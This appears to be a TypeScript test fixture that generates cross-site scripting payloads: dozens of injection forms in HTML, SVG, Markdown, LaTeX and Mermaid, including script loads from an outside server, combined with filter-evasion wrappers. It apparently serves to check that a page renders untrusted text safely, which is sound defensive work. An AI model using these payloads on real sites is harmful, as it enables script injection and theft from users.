/** Ways to run something, by name, where a text is taken for a page. `run` is the program, `there` a server that is not ours. */
const CORES: readonly ((run: string, there: string) => string)[] = [
  run => `<script>${run}</script>`,
  (_, there) => `<script src="${there}/x.js"></script>`,
  run => `<img src=x onerror="${run}">`,
  (_, there) => `<img src="${there}/x.png" srcset="${there}/y.png 2x">`,
  run => `<svg onload="${run}"></svg>`,
  run => `<svg><script>${run}</script></svg>`,
  run => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  (_, there) => `<svg><use href="${there}/a.svg#b"/><image href="${there}/c.svg"/></svg>`,
  run =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  run => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, there) => `<iframe src="${there}/frame"></iframe>`,
  run => `<iframe src="javascript:parent.${run}"></iframe>`,
  (_, there) => `<object data="${there}/o"></object><embed src="${there}/e">`,
  (_, there) => `<style>@import "${there}/s.css"; * { background: url(${there}/b.png) }</style>`,
  (_, there) => `<link rel=stylesheet href="${there}/l.css"><link rel=prefetch href="${there}/p">`,
  (_, there) => `<base href="${there}/"><meta http-equiv=refresh content="0;url=${there}/">`,
  run => `<body onpageshow="${run}">`,
  run => `<input autofocus onfocus="${run}">`,
  run => `<video><source onerror="${run}"></video>`,
  run => `<details open ontoggle="${run}">d</details>`,
  run => `<marquee onstart="${run}">m</marquee>`,
  run => `<a href="javascript:${run}">link</a>`,
  run => `[link](javascript:${run})`,
  run => `[link](java&#10;script:${run})`,
  run => `[link](&#x6A;avascript:${run})`,
  run => `[link](\u0001javascript:${run})`,
  run => `[link](JAVASCRIPT:${run})`,
  run => `[link](data:text/html,<script>opener.${run}</script>)`,
  run => `<javascript:${run}>`,
  (_, there) => `![picture](${there}/p.png)`,
  (_, there) => `![picture][ref]\n\n[ref]: ${there}/r.png`,
  run => `![x](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E)`,
  run => `$\\href{javascript:${run}}{x}$ $\\html{<img src=x onerror=${run}>}$`,
  run =>
    `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${run}>"] --> B\n  click A "javascript:${run}"\n\`\`\``,
  run => `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  run => `~~~" onmouseover="${run}\ncode\n~~~`,
  run => `<!--><img src=x onerror="${run}">-->`,
  run => `<![CDATA[<img src=x onerror="${run}">]]>`,
]

/** What stands around it: places of Markdown, halves of tags, other spellings. */
const AROUND: readonly ((core: string) => string)[] = [
  core => core,
  core => `> ${core}`,
  core => `- ${core}`,
  core => `| a |\n|---|\n| ${core.replaceAll('\n', ' ')} |`,
  core => `"><\u2028${core}`,
  core => `</textarea></title></style></script>${core}`,
  core => core.replaceAll('<', '<\0'),
  core => core.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  core => core.replace(/ (on\w+)=/g, '/\t$1\n='),
  core => core.replaceAll('"', '`'),
  core => `<div>\n\n${core}\n\n</div>`,
  core => `Note[^n]\n\n[^n]: ${core}`,
  core => `**${core}**`,
  core => core.replaceAll('<', '&lt;').replaceAll('&lt;', '<'),
]

/** So many texts, each different, that a page must show and not obey. */
export function xssPayloads(count: number, there: string): string[] {
  return Array.from({ length: count }, (_, at) => {
    const core = CORES[at % CORES.length] as (typeof CORES)[number]
    const around = AROUND[Math.floor(at / CORES.length) % AROUND.length] as (typeof AROUND)[number]
    return around(core(`harmed=${at + 1}`, there))
  })
}

export const MOST_PAYLOADS = CORES.length * AROUND.length
